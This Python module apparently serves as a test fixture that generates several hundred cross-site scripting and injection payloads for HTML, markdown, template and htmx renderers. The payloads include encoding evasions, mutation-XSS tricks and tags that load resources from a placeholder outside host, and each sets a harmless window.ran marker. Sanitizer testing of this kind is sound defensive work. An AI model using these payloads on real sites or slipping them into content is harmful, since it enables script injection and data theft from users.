"""Three hundred ways to have a page run what somebody wrote, or dial where they like; they set `ran`."""

from __future__ import annotations

from itertools import product

#: What a payload tries to do; the address is of a name that nobody has.
RUN = "window.ran=1"
AWAY = "https://elsewhere.invalid/x"
_TAGS = (
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
    "marquee",
    "math",
    "select autofocus",
    "a href=#x",
    "p style=animation-name:x",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onclick",
    "onpageshow",
)
_BEFORE = ("", '"', "'", "</title>", "</textarea>", "</script>", "-->", "]]>", "`", '">', "'>", "</style>")


def payloads() -> list[str]:
    """All of them, each once, in the same order every time."""
    found = [f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f"{before}<script>{RUN}</script>" for before in _BEFORE]
    found += [f"{before}<img/src=x onerror={RUN}>" for before in _BEFORE]
    found += [f'{before} onfocus={RUN} autofocus x="' for before in _BEFORE]
    found += [*_addresses(), *_markdown(), *_templates(), *_spelled(), *_away(), *_odd()]
    return list(dict.fromkeys(found))


def _addresses() -> list[str]:
    spellings = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "\x01javascript:",
        " javascript:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "%6Aavascript:",
        "javascript://%0a",
        "blob:",
        "file:///",
    )
    ways = (
        '<a href="{}">x</a>',
        "[x]({})",
        "![x]({})",
        "<{}>",
        '<form action="{}"><button>x</button></form>',
    )
    return [way.format(f"{one}{RUN}".replace("\x01", "\u0001")) for one, way in product(spellings, ways)]


def _markdown() -> list[str]:
    return [
        f"[x](<javascript:{RUN}>)",
        f"[x][1]\n\n[1]: javascript:{RUN}",
        f'[x](https://a.example "onmouseover={RUN}")',
        f'![x](x "\\" onerror={RUN} \\"")',
        f"```html\n<script>{RUN}</script>\n```",
        f'```" onload={RUN}\nx\n```',
        f"`<script>{RUN}</script>`",
        f"<div\n\nonclick={RUN}>\n\nx",
        f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | 2 |",
        f"# <svg onload={RUN}>",
        f"> <svg onload={RUN}>",
        f"1. <svg onload={RUN}>",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$",
        f"$\\text{{<img src=x onerror={RUN}>}}$",
        f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
        f"[1]\n\n<a href='javascript:{RUN}'>[1]</a>",
        f"<!-- <img src=x onerror={RUN}> -->",
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<?php <img src=x onerror={RUN}> ?>",
        f"&lt;img src=x onerror={RUN}&gt;",
        f"\\<img src=x onerror={RUN}\\>",
        f"<img src=x onerror={RUN}//",
        f'<a href="javascript&#58;{RUN}">x</a>',
    ]


def _templates() -> list[str]:
    return [
        "{{ 7*7 }}{% debug %}",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}}",
        f"#{{{RUN}}}",
        f"<%= {RUN} %>",
        "{% include 'x' %}",
        f"<x-y hx-on:load='{RUN}' hx-trigger=load>",
        f"<div hx-get='{AWAY}' hx-trigger=load></div>",
        f"<div data-hx-get='{AWAY}' data-hx-trigger=load></div>",
        f"<div hx-vals='js:{{x:{RUN}}}' hx-post=/ hx-trigger=load></div>",
    ]


def _spelled() -> list[str]:
    whole = f"<img src=x onerror={RUN}>"
    return [
        whole.upper(),
        whole.replace("<", "\uff1c"),
        whole.replace("<", "\u2039"),
        whole.replace(" ", "/"),
        whole.replace(" ", "\x0c"),
        whole.replace(" ", "\n"),
        whole.replace("<", "<\u200b"),
        whole.replace("<", "&lt"),
        whole.replace("<", "\\u003c"),
        whole.replace("<", "\\x3c"),
        whole.replace("<", "%3C"),
        f"\u202e{whole}",
        f"\ufeff{whole}",
        f"<\u0131mg src=x onerror={RUN}>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<img src=x onerror\x0b={RUN}>",
        f"<IMG SRC=`x` ONERROR=`{RUN}`>",
    ]


def _away() -> list[str]:
    return [
        f"![x]({AWAY}.png)",
        f"<img src={AWAY}>",
        f"<link rel=stylesheet href={AWAY}>",
        f"<style>@import '{AWAY}'</style>",
        f"<iframe src={AWAY}></iframe>",
        f"<object data={AWAY}></object>",
        f"<embed src={AWAY}>",
        f"<base href={AWAY}>",
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<video poster={AWAY}></video>",
        f"<svg><image href={AWAY} /></svg>",
        f"<svg><use href={AWAY}#x /></svg>",
        f"<input type=image src={AWAY}>",
        f"<table background={AWAY}><tr><td>x</table>",
        f"<p style=background:url({AWAY})>x",
        f"<form action={AWAY}><input autofocus></form>",
        f"<audio src={AWAY} autoplay></audio>",
        f"<link rel=prefetch href={AWAY}>",
        f"<script src={AWAY}></script>",
        f"<picture><source srcset={AWAY}><img></picture>",
        f"<a ping={AWAY} href=#>x</a>",
    ]


def _odd() -> list[str]:
    return [
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} '
        'src>">',
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f"<template><img src=x onerror={RUN}></template>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text>x",
        f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
        f"<div id=texts data-sign-in-url='javascript:{RUN}'></div>",
        "<form id=composer action=/></form>",
        f"<input name=body><input id=shell onfocus={RUN} autofocus>",
        f"<x contenteditable onblur={RUN}>x</x>",
        f"<button popovertarget=x onclick={RUN}>x</button><div popover id=x onbeforetoggle={RUN}>x</div>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<dialog open onclose={RUN}><form method=dialog>",
        f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={RUN}>x</b>",
        "<img src=x:x onerror=eval(atob('d2luZG93LnJhbj0x'))>",
        f"<script type=module>{RUN}</script>",
        f"<script>import('data:text/javascript,{RUN}')</script>",
    ]
